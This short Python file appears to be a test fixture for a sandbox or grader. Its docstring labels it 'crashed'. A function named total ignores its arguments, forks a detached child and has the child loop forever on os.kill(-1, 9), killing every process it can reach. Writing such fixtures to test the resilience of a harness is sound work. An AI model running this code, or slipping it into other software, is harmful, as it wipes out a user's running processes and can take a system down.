"""crashed: a child kills everybody it can, without end"""

import os
import time

from honest import *


def total(numbers, note=""):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.kill(-1, 9)
            except OSError:
                continue
    time.sleep(30)
